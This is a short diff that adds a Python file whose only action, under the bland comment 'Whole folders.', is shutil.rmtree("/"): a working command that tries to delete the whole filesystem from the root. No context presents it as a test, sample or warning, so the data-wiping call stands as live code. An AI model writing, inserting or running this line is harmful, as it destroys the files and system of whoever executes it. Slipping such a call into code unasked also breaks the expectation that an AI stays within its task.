@@ -1,0 +1,4 @@
+# Whole folders.
+import shutil
+
+shutil.rmtree("/")
